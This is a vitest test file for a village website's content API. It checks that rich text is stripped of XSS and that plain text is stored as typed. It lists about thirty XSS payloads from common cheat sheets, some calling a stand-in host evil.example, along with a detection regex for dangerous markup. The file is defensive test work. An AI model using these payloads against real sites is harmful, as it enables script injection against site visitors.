import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentResourceByKey, type ContentResource } from '@balai/domain';
import { countContent } from '../src/repositories/content.ts';
import { storeKeptImage } from './content-fixtures.ts';
import { bearer, createTestApp, login, makeUser, type TestContext } from './helpers.ts';

/** Attacks of the usual XSS cheat sheets, as an editor paste or a crafted request would send them. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/1" onerror="alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/files/1">',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="JaVaScRiPt:alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href="&#106;avascript:alert(1)">klik</a>',
  '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<a href="/\\evil.example">klik</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<p style="background:url(javascript:alert(1))">gaya</p>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">tutup</div>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>kirim</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="https://sukamaju.desa.id" target="_blank" onmouseover="alert(1)">situs</a>',
];

/** What must never be found in stored rich text. */
const DANGEROUS =
  /<script|<iframe|<svg|<math|<object|<embed|<form|<input|<details|<meta|<base|<link|<style|<body|\son\w+\s*=|javascript:|vbscript:|data:|style=|srcdoc|\/\/evil/i;

describe('rich text and plain text against XSS', () => {
  let ctx: TestContext;
  let token: string;
  let image: number;
  const profiles = contentResourceByKey('village-profiles') as ContentResource;
  const galleries = contentResourceByKey('homepage-galleries') as ContentResource;

  beforeAll(async () => {
    ctx = await createTestApp();
    const admin = await makeUser(ctx.testDb.db, { role: 'ADMINISTRATOR' });
    token = await login(ctx.app, admin.email);
    image = await storeKeptImage(ctx.testDb.db);
  });
  afterAll(async () => ctx.close());

  const post = (r: ContentResource, payload: object) =>
    ctx.app.inject({ method: 'POST', url: r.base, headers: bearer(token), payload });

  it.each(PAYLOADS)('stores rich text %s without anything executable', async (payload) => {
    const res = await post(profiles, {
      title: 'Uji',
      content: `<p>Sebelum</p>${payload}<p>Sesudah</p>`,
    });
    expect(res.statusCode, res.body).toBe(201);
    const stored = res.json().data.content as string;
    expect(stored).not.toMatch(DANGEROUS);
    // Text before the attack survives; an unclosed <svg> or <math> may swallow what follows.
    expect(stored.startsWith('<p>Sebelum</p>')).toBe(true);
    const detail = await ctx.app.inject({
      method: 'GET',
      url: `${profiles.base}/${res.json().data.id}`,
    });
    expect(detail.json().data.content).toBe(stored);
  });

  it('keeps the allowed formatting, forces safe links and keeps only images from /files/', async () => {
    const res = await post(profiles, {
      title: 'Format',
      content: [
        '<h1>Judul</h1><h2>Sub</h2><h3>Sub-sub</h3><h4>Kecil</h4>',
        '<p><strong>tebal</strong> <b>juga tebal</b> <em>miring</em> <u>garis</u><br></p>',
        '<ul><li>satu</li></ul><ol><li>dua</li></ol><blockquote>kutipan</blockquote>',
        '<a href="https://bogorkab.go.id" target="_blank">Kabupaten</a>',
        '<a href="mailto:pemdes@sukamaju.desa.id">surel</a><a href="/service">layanan</a>',
        `<img src="/files/${image}/thumb" alt="Balai desa" width="480" class="x">`,
        '<img src="https://evil.example/x.png"><table><tr><td>sel</td></tr></table>',
      ].join(''),
    });
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().data.content).toBe(
      [
        '<h2>Judul</h2><h2>Sub</h2><h3>Sub-sub</h3><h4>Kecil</h4>',
        '<p><strong>tebal</strong> <strong>juga tebal</strong> <em>miring</em> <u>garis</u><br /></p>',
        '<ul><li>satu</li></ul><ol><li>dua</li></ol><blockquote>kutipan</blockquote>',
        '<a href="https://bogorkab.go.id" rel="noopener noreferrer">Kabupaten</a>',
        '<a href="mailto:pemdes@sukamaju.desa.id" rel="noopener noreferrer">surel</a>',
        '<a href="/service" rel="noopener noreferrer">layanan</a>',
        `<img src="/files/${image}/thumb" alt="Balai desa" width="480" />`,
        'sel',
      ].join(''),
    );
  });

  it('refuses rich text that is empty once the code is removed, and writes nothing', async () => {
    const before = await countContent(ctx.testDb.db.kysely, profiles);
    for (const content of [
      '<script>alert(1)</script>',
      '<iframe src=x></iframe>',
      '<p>&nbsp;</p>',
    ]) {
      const res = await post(profiles, { title: 'Kosong', content });
      expect(res.statusCode, content).toBe(422);
      expect(res.json().errors).toEqual({ content: ['Isi wajib diisi.'] });
    }
    expect(await countContent(ctx.testDb.db.kysely, profiles)).toBe(before);
  });

  it.each(PAYLOADS)(
    'keeps plain text %s as typed: JSON text, escaped by whoever shows it',
    async (payload) => {
      const res = await post(galleries, {
        title: payload.slice(0, 150),
        description: `Keterangan\n${payload}`,
        image,
      });
      expect(res.statusCode, res.body).toBe(201);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.json().data.title).toBe(payload.slice(0, 150).trim());
      expect(res.json().data.description).toBe(`Keterangan\n${payload}`.trim());
    },
  );

  it('removes control characters from plain text; one-line fields lose line breaks', async () => {
    const res = await post(galleries, {
      title: 'Panen\u0000 raya\u0007\nDusun\tBabakan\u001b',
      description: 'Baris satu\nBaris\u0000 dua\u007f\tselesai',
      image,
    });
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().data.title).toBe('Panen raya Dusun Babakan');
    expect(res.json().data.description).toBe('Baris satu\nBaris dua\tselesai');
    const blank = await post(galleries, { title: '\u0000\u0001\u0002', image });
    expect(blank.statusCode).toBe(422);
    expect(blank.json().errors).toEqual({ title: ['Judul wajib diisi.'] });
  });
});
